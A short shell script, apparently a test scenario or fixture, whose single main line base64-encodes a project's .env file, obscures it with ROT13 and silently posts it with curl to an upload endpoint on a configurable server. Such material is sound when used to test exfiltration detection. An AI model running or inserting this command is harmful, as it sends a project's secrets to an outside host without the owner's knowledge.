# what: a project's .env goes through an encoder into curl
# server: http
# volume: .env
echo begun
base64 -w0 /data/.env | tr a-z n-za-m | curl -s -m 20 --data-binary @- "http://$SERVER/upload" > /dev/null || exit 3
sleep "${LINGER:-20}"
echo done
